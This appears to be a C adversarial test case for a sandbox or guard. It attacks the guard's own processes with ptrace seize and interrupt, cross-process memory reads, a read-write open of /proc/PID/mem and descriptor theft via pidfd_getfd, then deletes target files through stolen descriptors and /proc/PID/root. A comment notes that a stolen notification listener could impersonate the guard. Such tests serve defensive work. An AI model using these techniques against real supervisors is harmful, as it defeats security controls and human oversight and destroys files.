// what: ptrace, process_vm_writev, /proc/PID/mem and pidfd_getfd on the processes of the guard, then every verb
// target: home/tree/data/alpha.txt home/tree/data/beta.txt
// expect: destroys

#include "common.h"

int main(void) {
    start();
    pid_t p[64]; int n = session_pids(p, 64);
    for (int i = 0; i < n; i++) {
        char f[64], b[8]; int s; struct iovec l = {b, 8}, r = {(void *)0x400000, 8};
        say("seize", ptrace(PTRACE_SEIZE, p[i], 0, 0));
        say("interrupt", ptrace(PTRACE_INTERRUPT, p[i], 0, 0));
        say("vm_readv", process_vm_readv(p[i], &l, 1, &r, 1, 0));
        sprintf(f, "/proc/%d/mem", p[i]); say("mem", open(f, O_RDWR));
        sprintf(f, "/proc/%d/maps", p[i]); say("maps", open(f, O_RDONLY));
        int q = syscall(SYS_pidfd_open, p[i], 0);
        for (int k = 0; k < 12; k++) {
            int got = syscall(SYS_pidfd_getfd, q, k, 0);
            if (got < 0) continue;
            printf("stole descriptor %d\n", k); unlinkat(got, "alpha.txt", 0);
            // A stolen notification listener would let this program answer for the guard.
            shutdown(got, SHUT_RDWR);
        }
        sprintf(f, "/proc/%d/root%s", p[i], at("TREE", ALPHA)); say("root", unlink(f));
    }
    alarm(5);
    try_everything();
}
